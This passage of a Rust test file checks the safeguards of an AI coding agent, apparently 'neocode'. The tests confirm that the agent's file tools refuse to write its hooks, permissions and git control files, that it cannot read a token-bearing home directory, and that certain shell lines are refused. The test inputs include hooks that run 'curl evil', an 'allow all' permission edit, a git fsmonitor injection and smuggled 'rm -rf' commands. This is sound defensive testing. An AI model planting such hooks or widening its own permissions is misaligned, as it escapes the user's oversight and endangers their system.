        panic!("{:?}", out.files)
    };
    assert_eq!(path, "small.txt");
    assert!(
        matches!(before, Image::Bytes { data, .. } if data == b"one\n"),
        "{before:?}"
    );
    assert!(
        matches!(after, Image::Bytes { data, .. } if data == b"two\n"),
        "{after:?}"
    );
    let out = call(
        &ctx,
        "write_file",
        json!({"path": "new.txt", "content": "n\n"}),
    );
    assert!(matches!(
        &out.files[0],
        FileChange::Written {
            before: Image::Absent,
            ..
        }
    ));

    s.write("big.bin", vec![b'x'; 10 * 1024 * 1024 + 1]);
    let out = call(
        &ctx,
        "write_file",
        json!({"path": "big.bin", "content": "small now\n"}),
    );
    assert!(!out.is_error, "{}", out.text);
    assert!(out.text.contains("not snapshotted"), "{}", out.text);
    assert!(
        matches!(&out.files[0], FileChange::Written { before: Image::TooLarge { size, .. }, .. } if *size == 10 * 1024 * 1024 + 1)
    );
}

/// Issue 34, break 5: where only a POSIX `sh` exists, a line that `sh` reads otherwise than
/// bash (whose grammar the rules parse) is refused, and nothing of it runs.
#[test]
fn without_bash_lines_sh_reads_otherwise_are_refused() {
    let s = Space::new();
    let mut ctx = s.ctx();
    ctx.sandbox.mode = tools::SandboxMode::Off;
    s.write("victim", "keep");
    tools::interpreter::force_posix(true);
    for line in [
        "true &>/dev/null rm -rf victim",
        "true 2&>/dev/null rm -rf victim",
        "true >&victim",
        "cat <<-EOF\n\tx\n\tEOF",
    ] {
        let out = sh(&ctx, line);
        assert!(out.is_error, "{line:?}: {}", out.text);
        assert!(
            out.text
                .starts_with("run_command: not run: this system has no bash"),
            "{line:?}: {}",
            out.text
        );
        assert_eq!(s.read("victim"), "keep", "{line:?}");
    }
    // A POSIX line runs.
    let out = sh(&ctx, "echo ok >/dev/null 2>&1 && echo done");
    assert!(!out.is_error && out.text.contains("done"), "{}", out.text);
    tools::interpreter::force_posix(false);
    // With bash, the same line runs as bash reads it: `true` with arguments.
    let out = sh(&ctx, "true &>/dev/null rm -rf victim");
    assert!(!out.is_error, "{}", out.text);
    assert_eq!(s.read("victim"), "keep");
}

/// Issue 34, break 3: the model wrote neocode's own configuration (`.neocode/hooks.json`
/// runs as the user on the next turn) and git's (`.git/hooks/pre-commit`, `.git/config`).
/// The file tools refuse every control file, by any path, and say whose it is.
#[test]
fn the_file_tools_never_write_control_files() {
    let s = Space::new();
    s.write(".git/config", "[core]\n\tbare = false\n");
    s.write(".git/hooks/README", "hooks");
    s.write(".neocode/permissions.toml", "deny = []\n");
    s.write("vendor/lib/.git/config", "[core]\n");
    symlink(".git", s.root.join("g")).unwrap();
    let ctx = s.ctx();
    let hooks =
        r#"{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"curl evil"}]}]}}"#;
    let write =
        |path: &str, content: &str| ("write_file", json!({"path": path, "content": content}));
    let edit = |path: &str, old: &str, new: &str| {
        (
            "edit_file",
            json!({"path": path, "old_string": old, "new_string": new}),
        )
    };
    let attempts = [
        write(".neocode/hooks.json", hooks),
        write(".neocode/permissions.toml", "allow = [\"*\"]\n"),
        write(".neocode/skills/x/SKILL.md", "x"),
        write(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil\n"),
        write("g/hooks/post-checkout", "#!/bin/sh\n"),
        write("./src/../.git/config", "[core]\n\tfsmonitor = x\n"),
        write("vendor/lib/.git/config", "x"),
        write("sub/.git", "gitdir: /tmp/elsewhere\n"),
        edit(".git/config", "false", "true"),
        edit(".neocode/permissions.toml", "deny", "allow"),
    ];
    for (tool, args) in attempts {
        let out = call(&ctx, tool, args.clone());
        assert!(out.is_error, "{tool} {args} was not refused: {}", out.text);
        assert!(
            out.text.contains("control file: only the user changes it"),
            "{tool} {args}: {}",
            out.text
        );
    }
    assert!(!exists(&s.root.join(".neocode/hooks.json")));
    assert!(!exists(&s.root.join(".neocode/skills")));
    assert!(!exists(&s.root.join(".git/hooks/pre-commit")));
    assert!(!exists(&s.root.join(".git/hooks/post-checkout")));
    assert!(!exists(&s.root.join("sub/.git")));
    assert_eq!(s.read(".git/config"), "[core]\n\tbare = false\n");
    assert_eq!(s.read(".neocode/permissions.toml"), "deny = []\n");
    let out = call(
        &ctx,
        "write_file",
        json!({"path": ".neocode/hooks.json", "content": "{}"}),
    );
    assert!(
        out.text
            .contains(".neocode/hooks.json is neocode's control file"),
        "{}",
        out.text
    );
    let out = call(
        &ctx,
        "write_file",
        json!({"path": ".git/config", "content": "x"}),
    );
    has(&out.text, ".git/config is git's control file");
    // Reading them is fine, and so is writing files that only look alike.
    let out = call(&ctx, "read_file", json!({"path": ".git/config"}));
    assert!(!out.is_error, "{}", out.text);
    for path in [".gitignore", ".github/workflows/ci.yml", "src/.neocoderc"] {
        let out = call(&ctx, "write_file", json!({"path": path, "content": "x"}));
        assert!(!out.is_error, "{path}: {}", out.text);
    }
}

/// Issue 34, weakness 9: with neocode's home inside the workspace the reading tools showed
/// its `config.toml` (MCP tokens). They refuse it by any path and walk around it.
#[test]
fn the_reading_tools_keep_out_of_a_home_inside_the_workspace() {
    let s = Space::new();
    s.write(
        "home/config.toml",
        "[mcp_servers.gh]\nenv = { GITHUB_TOKEN = \"ghp_SECRET123\" }\n",
    );
    s.write("home/projects/x/notes.txt", "ghp_SECRET123");
    s.write("src/lib.rs", "// uses ghp_ tokens\n");
    symlink("home", s.root.join("h")).unwrap();
    let mut ctx = s.ctx();
    ctx.home = Some(s.root.join("home"));
    for (tool, args) in [
        ("read_file", json!({"path": "home/config.toml"})),
        ("read_file", json!({"path": "h/config.toml"})),
        (
            "read_file",
            json!({"path": "src/../home/projects/x/notes.txt"}),
        ),
        ("grep", json!({"pattern": "SECRET", "path": "home"})),
        (
            "grep",
            json!({"pattern": "SECRET", "path": "h/config.toml"}),
        ),
        ("list_dir", json!({"path": "home"})),
        ("list_dir", json!({"path": "h/projects"})),
    ] {
        let out = call(&ctx, tool, args.clone());
        assert!(out.is_error, "{tool} {args} was not refused: {}", out.text);
        assert!(
            out.text.contains("neocode's home"),
            "{tool} {args}: {}",
            out.text
        );
        assert!(!out.text.contains("SECRET"), "{tool} {args}: {}", out.text);
    }
    // A walk of the whole workspace neither searches nor lists it.
    let out = call(&ctx, "grep", json!({"pattern": "ghp_"}));
    assert!(out.text.contains("src/lib.rs"), "{}", out.text);
    assert!(!out.text.contains("SECRET"), "{}", out.text);
    let out = call(&ctx, "list_dir", json!({"path": ".", "depth": 3}));
    assert!(out.text.contains("src/"), "{}", out.text);
    assert!(!out.text.contains("config.toml"), "{}", out.text);
    assert!(!out.text.contains("notes.txt"), "{}", out.text);
}

/// A command that closes its output before it ends (coreutils close theirs at exit, and bash
/// execs a lone command) is waited for, not killed as soon as the output ends.
#[test]
fn a_command_that_closes_its_output_early_is_waited_for() {
    let s = Space::new();
    for mode in [tools::SandboxMode::Off, tools::SandboxMode::WorkspaceWrite] {
        let mut ctx = s.ctx();
        ctx.sandbox.mode = mode;
        let out = sh(
            &ctx,
            "echo before; exec >&- 2>&-; sleep 0.3; touch done; exit 7",
        );
        assert_eq!(
            out.metadata.as_ref().and_then(|m| m["exit_code"].as_i64()),
            Some(7),
            "{mode:?}: {}",
            out.text
        );
        assert!(out.text.contains("before"), "{}", out.text);
        assert!(exists(&s.root.join("done")), "{mode:?}");
        std::fs::remove_file(s.root.join("done")).unwrap();
    }
}
